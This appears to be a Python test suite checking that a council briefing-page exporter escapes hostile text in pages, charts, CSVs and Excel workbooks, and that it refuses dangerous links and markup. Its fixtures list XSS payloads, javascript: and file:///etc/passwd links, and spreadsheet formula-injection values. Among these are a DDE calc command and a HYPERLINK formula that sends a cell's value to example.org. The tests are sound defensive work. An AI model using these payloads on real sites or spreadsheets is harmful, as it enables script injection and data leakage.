"""Text from outside (returns, DfE's files, a council's words, names of files) is words wherever a reader meets it.

Hostile text is put into every part that shows text; a page, read as a browser would, then has no element that the
page's own makers did not make, a workbook no formula, a CSV no cell that a spreadsheet would run.
"""

import csv
import json
import re
import zipfile

import nbformat.v4 as nb
import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree
from lxml import html as lxml_html
from test_charts import (
    bar_rows,
    bars,
    funnel,
    funnel_rows,
    interval_rows,
    intervals,
    line_rows,
    lines,
    rank_rows,
    ranks,
)

from helpers.briefing import write_csv
from helpers.briefing_page import export_page, page_faults
from helpers.charts import sparkline
from helpers.commentary import CouncilWords, parse_commentary, parse_headings
from helpers.corrected_return import _as_text_alone
from helpers.errors import ContractError, InputError
from helpers.london_page import load_editions, overview_table
from helpers.notebook_tables import published_files_table
from helpers.page_parts import Sentences, paragraph, section
from helpers.quality_page import changed_table
from helpers.spreadsheet_text import as_text_alone, frame_as_text_alone
from helpers.tables import Card, Cards, Column, Link, Table, write_workbook

HOSTILE = [
    "<script>window.ran=1</script>",
    '"><img src=x onerror=window.ran=1>',
    "' onmouseover='window.ran=1' x='",
    "</title></svg></style><script>window.ran=1</script>",
    "--><script>window.ran=1</script><!-- ]]>",
    "{{ 7 * 7 }}{% raw %}",
    "[words](javascript:window.ran=1)",
    "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;b&#62;",
    "<svg/onload=window.ran=1><a href=javascript:window.ran=1>x</a>",
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "$\\frac{1}{$ 100% \\x",
]
MARK = "window.ran"
FORMULAS = ["=1+1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", '"=1', "\uff1d1+1", "\uff0b1",
            "\uff0d1", "\uff201", " \u200b=1", "x;=1", "x\t+1", "x\n@a"]  # fmt: skip
SIGN = r"[\s\"\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]"


def runs(text: str) -> bool:
    """Say whether a spreadsheet could run a cell: as it stands, or where a reader with other separators parts it."""
    words = text.lstrip(" \t\r\n'\"\u200b\ufeff")
    return bool(re.match(rf"{SIGN}|[\t\r\n]", text) or re.search(rf"[;\t\r\n]{SIGN}", words))


def renamed(frame: pd.DataFrame, column: str, text: str) -> pd.DataFrame:
    """Put the text before every name of a column, so that names stay apart."""
    return frame.assign(**{column: text + " " + frame[column].astype(str)})


def charts(text: str, number: int) -> list:
    words = {"title": text, "subtitle": text, "alt": text, "source": text, "note": text}
    name = text[:12]  # names in a picture have little room
    over_time = renamed(line_rows(Bexley=[50.0] * 10, England=[70.0] * 10), "area", name[:5])
    return [
        lines(over_time, **words, key=f"a{number}", highlight=f"{name[:5]} Bexley"),
        intervals(
            renamed(interval_rows(), "group", name), **words, key=f"b{number}", reference_label=name, group_header=text
        ),
        bars(renamed(bar_rows(), "category", name), **words, key=f"c{number}", category_header=text),
        funnel(renamed(funnel_rows(), "area", name), **words, key=f"d{number}", area_header=text),
        ranks(renamed(rank_rows(), "area", name), **words, key=f"e{number}", area_header=text),
    ]


def parts(text: str, number: int, folder) -> list:
    """Every kind of thing that a page shows, made of one text."""
    rows = pd.DataFrame(
        {
            "a": [text, "other"],
            "b": [Link(text, "x.html"), "x"],
            "c": [sparkline([1, 2], key=f"s{number}", name=text), "x"],
        }
    )
    columns = (Column("a", text), Column("b", f"B {text}"), Column("c", f"C {text}"))
    changes = pd.DataFrame({"table": ["header"], "column": [text], "why": [text]})
    files = pd.DataFrame(
        {"file": [text], "kind": [text], "release": [text], "rows_used": [1], "rows_left_out": [0], "why": [text]}
    )
    outcomes = json.dumps([["Sutton", "2023-03-31", "failed", text]])
    return [
        Table(text, rows, columns, source=text),
        Cards((Card(text, text, text),)),
        Sentences((text,)),
        paragraph(text),
        CouncilWords((text,)),
        changed_table(changes, borough=text),
        published_files_table(files),
        overview_table(load_editions(folder, outcomes)),
    ]


def cell(thing: object) -> dict:
    return nb.new_code_cell("1", outputs=[nb.new_output("display_data", data={"text/html": thing._repr_html_()})])


def page_of(texts: list[str], folder) -> str:
    cells = []
    for number, text in enumerate(texts):
        cells += [
            nb.new_markdown_cell(f"## {text}"),
            cell(section(*parts(text, number, folder), *charts(text, number))),
        ]
        cells.append(nb.new_code_cell("1", outputs=[nb.new_output("display_data", data={"text/plain": text})]))
        cells.append(nb.new_code_cell("1", outputs=[nb.new_output("stream", name="stdout", text=text)]))
    told = {name: " ".join(texts) for name in ("title", "description", "service", "borough", "as_at", "subtitle")}
    notebook = nb.new_notebook(cells=cells)
    return export_page(
        notebook, {**told, "status": texts, "footer": texts, "links": [(text, "x.html") for text in texts]}
    )


SAFE = [text for text in HOSTILE if "javascript:" not in text or "<" in text]
"""A link in markdown that would run code refuses the page; it stands in its own test."""


@pytest.fixture(scope="module")
def page(tmp_path_factory) -> str:
    return page_of(SAFE, tmp_path_factory.mktemp("none"))


def test_hostile_text_in_every_part_of_a_page_stays_text(page):
    root = lxml_html.document_fromstring(page)
    assert page_faults(page) == []
    assert not root.xpath("//script|//img|//iframe|//form|//b|//svg//a")
    assert not [name for one in root.iter() for name in one.attrib if name.startswith("on")]
    inside = {"x.html", *(f"#{one}" for one in root.xpath("//@id"))}
    for link in root.xpath("//a"):  # markdown makes a link of an address
        assert link.get("href") in inside or (link.get("href").startswith("http:") and "noreferrer" in link.get("rel"))
    shown = root.text_content()
    for text in SAFE:
        assert shown.count(" ".join(text.split())[:12]) >= 10, text


def test_the_pictures_of_hostile_text_hold_it_as_text():
    for chart in charts(HOSTILE[0] + HOSTILE[1], 0):
        picture = etree.fromstring(chart.svg)
        names = {etree.QName(one).localname for one in picture.iter() if isinstance(one.tag, str)}
        assert not names & {"script", "img", "a", "foreignObject", "image", "style"}
        assert HOSTILE[0] in picture.findtext("{*}title")
        assert HOSTILE[0] in picture.findtext("{*}desc")


@given(st.text(st.sampled_from("<>\"'&=/;:{}%-!#[]()`\\ \u2028ascriptonloadimgx1"), min_size=1, max_size=60))
@settings(max_examples=40, deadline=None)
def test_whatever_text_is_shown_no_element_is_made_of_it(text):
    shown = f"a{text}"  # not blank, which a table refuses
    for thing in (Sentences((shown,)), paragraph(shown), Cards((Card(shown, shown, shown),)), CouncilWords((shown,)),
                  Link(shown, "x.html"), Table(shown, pd.DataFrame({"a": [shown]}), (Column("a", shown),))):  # fmt: skip
        made = lxml_html.fragment_fromstring(thing._repr_html_(), create_parent="main")
        plain = lxml_html.fragment_fromstring(_of_letters(thing)._repr_html_(), create_parent="main")
        assert [(one.tag, sorted(one.attrib)) for one in made.iter()] == [
            (one.tag, sorted(one.attrib)) for one in plain.iter()
        ]


def _of_letters(thing):
    word = "aa"
    if isinstance(thing, Sentences):
        return Sentences((word,), thing.as_list)
    if isinstance(thing, Cards):
        return Cards((Card(word, word, word),))
    if isinstance(thing, CouncilWords):
        return CouncilWords((word,))
    return (
        Link(word, "x") if isinstance(thing, Link) else Table(word, pd.DataFrame({"a": [word]}), (Column("a", word),))
    )


# --- links and the policy -------------------------------------------------------------------------------------------

ADDRESSES = [
    "javascript:window.ran=1", "JaVaScRiPt:window.ran=1", "java\tscript:window.ran=1", "java\nscript:window.ran=1",
    "\x01javascript:window.ran=1", "vbscript:x", "data:text/html,x", "file:///etc/passwd", "//example.org/x",
    "\\\\example.org\\x", "mailto:a@example.org", "ftp://example.org",
]  # fmt: skip


@pytest.mark.parametrize("address", ADDRESSES, ids=repr)
def test_a_link_that_runs_code_or_leads_to_another_machine_stops_the_page(address, tmp_path):
    notebook = nb.new_notebook(cells=[cell(Link("words", address))])
    with pytest.raises(ContractError, match="links that run code|links to another machine"):
        export_page(notebook, {"title": "A title", "description": "A page."})


@pytest.mark.parametrize("markdown", [
    "[x](javascript:window.ran=1)", "[x][1]\n\n[1]: JAVASCRIPT:window.ran=1", "[x](java&#115;cript:window.ran=1)",
    "[x](&#x6A;avascript:window.ran=1)", "<javascript:window.ran=1>", "![x](http://example.org/x.png)",
])  # fmt: skip
def test_markdown_makes_no_link_that_runs_code_and_loads_no_picture(markdown):
    try:
        text = export_page(nb.new_notebook(cells=[nb.new_markdown_cell(markdown)]), {"title": "T", "description": "D"})
    except ContractError:
        return
    root = lxml_html.document_fromstring(text)
    assert not root.xpath("//main//img")
    assert not [link for link in root.xpath("//main//a/@href") if MARK in link]


def test_a_link_outside_tells_nobody_where_it_was_followed_from():
    notebook = nb.new_notebook(cells=[nb.new_markdown_cell("[the statistics](https://www.gov.uk/x)")])
    root = lxml_html.document_fromstring(export_page(notebook, {"title": "T", "description": "D"}))
    assert root.xpath("//main//a/@rel") == ["noreferrer noopener"]
    assert root.xpath("//meta[@name='referrer']/@content") == ["no-referrer"]
    bare = nb.new_notebook(cells=[cell(Link("words", "https://www.gov.uk/x"))])
    with pytest.raises(ContractError, match="without rel=noreferrer"):
        export_page(bare, {"title": "T", "description": "D"})


@pytest.mark.parametrize("markup", [
    "<embed src='x'>", "<math href='javascript:1'>x</math>", "<template><b>x</b></template>", "<base href='http://x.example'>",
    "<meta http-equiv='refresh' content='0;url=x'>", "<video poster='x.png'></video>", "<p background='x.png'>x</p>",
    "<svg role='img'><title>x</title><animate attributeName='href' to='javascript:1'/></svg>", "<button formaction='x'>x</button>",
    "<svg role='img'><title>x</title><image href='x.png'/></svg>", "<svg role='img'><title>x</title><use xlink:href='x.svg#a'/></svg>",
    "<a href='x.html' ping='http://x.example'>x</a>", "<p ONCLICK='x'>x</p>",
])  # fmt: skip
def test_markup_that_could_load_run_or_send_stops_the_page(markup):
    notebook = nb.new_notebook(
        cells=[nb.new_code_cell("1", outputs=[nb.new_output("display_data", data={"text/html": markup})])]
    )
    with pytest.raises(ContractError):
        export_page(notebook, {"title": "T", "description": "D"})


class Opened:
    """A page in a browser, with what it asked for, what it said and whether any text of it ran."""

    def __init__(self, browser, path, text: str) -> None:
        path.write_text(text, encoding="utf-8")
        self.asked, self.refused, self.told, self.dialogs = [], [], [], []
        page = browser.new_page()
        page.on("request", lambda request: self.asked.append(request.url))
        page.on("requestfailed", lambda request: self.refused.append((request.url, request.failure)))
        page.on("console", lambda message: self.told.append(message.text))
        page.on("pageerror", lambda error: self.told.append(str(error)))
        page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        page.goto(path.as_uri())
        page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
        page.mouse.move(200, 200)
        self.ran, self.scripts = page.evaluate("[typeof window.ran, document.scripts.length]")
        self.asked = [address for address in self.asked if address != path.as_uri()]
        page.close()


def test_a_browser_runs_asks_and_says_nothing_on_a_page_of_hostile_text(browser, page, tmp_path):
    opened = Opened(browser, tmp_path / "page.html", page)
    assert (opened.ran, opened.scripts, opened.asked, opened.told, opened.dialogs) == ("undefined", 0, [], [], [])


def test_the_policy_stops_what_a_page_should_never_hold(browser, page, tmp_path):
    """Even if escaping failed: scripts, pictures from elsewhere, styles and forms are refused by the browser itself."""
    planted = (
        "<script>window.ran=1</script><img src='http://127.0.0.1:9/x.png' onerror='window.ran=1'><p style='color:red'>x</p>"
        "<style>p{color:red}</style><iframe src='http://127.0.0.1:9/'></iframe><link rel='stylesheet' href='http://127.0.0.1:9/x.css'>"
    )
    opened = Opened(browser, tmp_path / "page.html", page.replace("<main", planted + "<main", 1))
    assert opened.ran == "undefined"
    assert opened.dialogs == []
    refused = {address for address, why in opened.refused if why == "csp"}
    assert len(refused) >= 2
    assert {address for address in opened.asked if address.startswith("http")} == refused, "no byte was sent"
    assert sum("Content Security Policy" in line for line in opened.told) >= 5


# --- a council's own words ------------------------------------------------------------------------------------------

COMMENTARY = [
    "<script>window.ran=1</script>", "text <IMG SRC=x ONERROR=window.ran=1>", "<!-- x -->", "&lt;script&gt;", "&#60;script&#62;",
    "[x](http://a.example)", "[x](JAVASCRIPT:1)", "[x][1]", "[1]: http://a.example", "![x](x.png)", "<http://a.example>",
    "http://a.example/x", "www.a.example", "javascript&#58;alert(1)", "mail a@b.example", "**bold**", "| a | b |", "`code`",
    "</p></div>", "<svg/onload=1>", "&nbsp;",
]  # fmt: skip


@pytest.mark.parametrize("line", COMMENTARY)
def test_markup_and_links_in_a_councils_words_are_refused(line):
    with pytest.raises(InputError, match="Nothing was written"):
        parse_commentary(f"## Summary\n\n{line}\n", "commentary.md", {"Summary": "summary"})
    with pytest.raises(InputError, match="Nothing was written"):
        parse_headings(f'order,heading,indicator\n1,"{line}",cla_total\n', "headings.csv", ["cla_total"])


# --- spreadsheets ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_no_cell_and_no_header_of_a_csv_can_run_and_numbers_stay_numbers(tmp_path, text):
    frame = pd.DataFrame({
        "group": [text, "Asian", None], text: pd.Categorical([text, text, "x"]), "change": [-3.0, 2.0, np.nan],
        "day": pd.to_datetime(["2023-03-31"] * 3), "mixed": [text, -2, None],
    })  # fmt: skip
    write_csv(frame, tmp_path / "a.csv")
    with (tmp_path / "a.csv").open(newline="", encoding="utf-8") as file:
        header, *rows = csv.reader(file)
    assert [row[2:4] for row in rows] == [["-3", "2023-03-31"], ["2", "2023-03-31"], ["", "2023-03-31"]]
    assert [row[4] for row in rows[1:]] == ["-2", ""], "a negative number among words stays a number"
    assert not [one for one in (*header, *(one for row in rows for one in (row[0], row[1]))) if runs(one)]
    assert frame["group"].iloc[0] == text, "the table given is not changed"


@given(st.text(st.sampled_from("=+-@\t\r\n \"';x1\uff1d\u200b"), max_size=8))
@settings(max_examples=150, deadline=None)
def test_text_made_safe_cannot_run_stays_safe_and_loses_nothing(text):
    safe = as_text_alone(text)
    assert not runs(safe)
    assert as_text_alone(safe) == safe
    assert safe.replace("'", "") == re.sub("\r\n?", "\n", text).replace("'", "")


def test_a_workbook_holds_text_and_numbers_and_no_formula(tmp_path):
    rows = pd.DataFrame({"a": [*FORMULAS, *HOSTILE], "b": -1.0})
    table = Table("=1+1", rows, (Column("a", "@Group"), Column("b", "B", "whole")), source="=1")
    write_workbook([table], tmp_path / "a.xlsx", title="=1+1", notes=["+1", "-1"], sources=["@x"])
    with zipfile.ZipFile(tmp_path / "a.xlsx") as book:
        names = book.namelist()
        sheets = [etree.fromstring(book.read(name)) for name in names if name.startswith("xl/worksheets/sheet")]
        shared = etree.fromstring(book.read("xl/sharedStrings.xml"))
        links = " ".join(book.read(name).decode() for name in names if name.endswith(".rels"))
    assert len(sheets) > 3
    assert not [one for sheet in sheets for one in sheet.iter("{*}f")]
    assert not [text for text in shared.itertext() if text.strip() and runs(text)]
    assert "example.org" not in links
    assert not any("externalLink" in name or "macro" in name.casefold() or "vba" in name.casefold() for name in names)


def test_the_accounts_beside_a_corrected_return_cannot_run_and_keep_dashes_and_numbers():
    rows = pd.DataFrame({"from": ["=1", "\uff1d1", " =1", "-", "-3", "+44 20", "x"], "row": range(7)})
    told = _as_text_alone(rows)["from"].tolist()
    assert told == ["'=1", "'\uff1d1", "' =1", "-", "-3", "+44 20", "x"]


def test_an_empty_table_and_blank_cells_are_as_they_were():
    frame = pd.DataFrame({"a": [None, "", np.nan], "b": [1, 2, 3]})
    pd.testing.assert_frame_equal(frame_as_text_alone(frame), frame)
    assert frame_as_text_alone(frame.iloc[:0]).empty
